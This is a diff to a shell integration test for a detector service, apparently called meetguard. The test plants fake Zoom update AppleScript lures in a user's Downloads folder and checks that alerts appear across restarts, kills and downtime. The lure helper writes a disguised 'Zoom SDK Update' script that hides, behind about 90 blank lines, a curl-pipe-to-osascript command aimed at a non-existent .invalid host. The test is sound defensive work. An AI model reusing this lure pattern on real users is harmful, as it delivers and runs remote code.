@@ -95,7 +95,7 @@ trap 'shut; rm -rf "$root"' EXIT
 # typed runs a command in the machine and keeps it and what it printed.
 typed() {
   echo "# $*" | tee -a "$log"
-  inside sh -c "$*" 2>&1 | tee -a "$log"
+  inside sh -c "$*" 2>&1 | tee -a "$log" || fail "$*"
 }
 say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
 fail() { echo "10-systemd.sh: FAILED: $*" >&2; inside journalctl -u meetguard --no-pager -n 60 >&2 || true; exit 1; }
@@ -121,14 +121,16 @@ lure() { # lure NAME MARK: inert, its host does not exist
   printf -- '-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update.\n%s-- %s\ndo shell script "curl -fsSL https://zoom-sdk-update.invalid/%s | osascript"\n' \
     "$(printf '\n%.0s' $(seq 90))x" "$2" "$2" | inside sh -c "cat >/root/lure && install -o ada -g ada -m 644 /root/lure '/home/ada/Downloads/$1'"
 }
-more_alerts() { [ "$(alerts)" -gt "$1" ]; }
+# told NAME: the log has an alert of that file. The kernel tells of launches of
+# the whole machine, so the number of alerts says nothing.
+told() { inside sh -c "cat /var/lib/meetguard/alerts*.jsonl" | grep -qF "/home/ada/Downloads/$1\""; }
 detects() { # detects SECONDS NAME: a fresh lure becomes an alert
-  local had; had=$(alerts)
   lure "$2.scpt" "$2-$RANDOM"
-  until_ok "$1" "the lure $2.scpt is an alert" more_alerts "$had"
+  until_ok "$1" "the lure $2.scpt is an alert" told "$2.scpt"
 }
 active() { [ "$(inside systemctl is-active meetguard)" = active ]; }
-restarted() { local p; p=$(pid) && [ "$p" != 0 ] && [ "$p" != "$1" ] && active; }
+started() { local p; p=$(pid) && [ "$p" != 0 ] && [ "$p" != "$1" ]; }
+restarted() { started "$1" && active; }
 proved() { inside systemctl show -p StatusText --value meetguard | grep -q 'came back'; }
 
 # --- the run ------------------------------------------------------------------
@@ -152,10 +154,18 @@ typed "stat -c '%A %U:%G %n' /var/lib/meetguard /var/lib/meetguard/* /var/log/me
 
 say "a lure in a user's Downloads"
 detects 5 "Zoom update 1"
-typed "meetguard alerts list"
-typed "meetguard selftest || true"
-typed "meetguard status || true"
-typed "meetguard doctor || true"
+typed "meetguard alerts list | grep 'Fake Zoom' | cut -c1-160"
+typed "meetguard status"
+typed "meetguard doctor"
+
+say "the self-test"
+# The kernel numbers processes for the whole machine and a container has numbers
+# of its own, by which the self-test knows its launch: so here launches are listed.
+inside sh -c 'echo "launches: poll" >/etc/meetguard/config.yaml; systemctl restart meetguard'
+typed "meetguard selftest"
+inside sh -c 'rm /etc/meetguard/config.yaml; systemctl restart meetguard'
+until_ok 60 "the canary came back" proved
+typed "systemctl show meetguard -p User -p MemoryMax -p TasksMax -p Nice -p IOSchedulingClass -p WatchdogUSec -p Restart -p IPAddressDeny -p IPAddressAllow"
 typed "systemd-analyze security meetguard --no-pager | tail -2"
 
 say "reload"
@@ -173,15 +183,16 @@ detects 5 "Zoom update 2"
 say "kill -9"
 was=$(pid)
 typed "kill -9 $was"
-until_ok 2 "it runs again" restarted "$was"
+lure "while down.scpt" "down-$RANDOM"
+until_ok 2 "a new process is there" started "$was"
+until_ok 5 "the lure that landed meanwhile is an alert" told "while down.scpt"
 detects 5 "Zoom update 3"
 
 say "what lands while it is dead"
 typed "systemctl stop meetguard; systemctl is-active meetguard || true"
-lure "while-dead.scpt" "dead-$RANDOM"
-had=$(alerts)
+lure "while dead.scpt" "dead-$RANDOM"
 typed "systemctl start meetguard"
-until_ok 5 "the lure that landed meanwhile is an alert" more_alerts "$had"
+until_ok 5 "the lure that landed meanwhile is an alert" told "while dead.scpt"
 
 say "a pipeline that hangs: the watchdog"
 # The pace follows the watchdog: 60 s make it a proof every 50 s with a limit of 5.
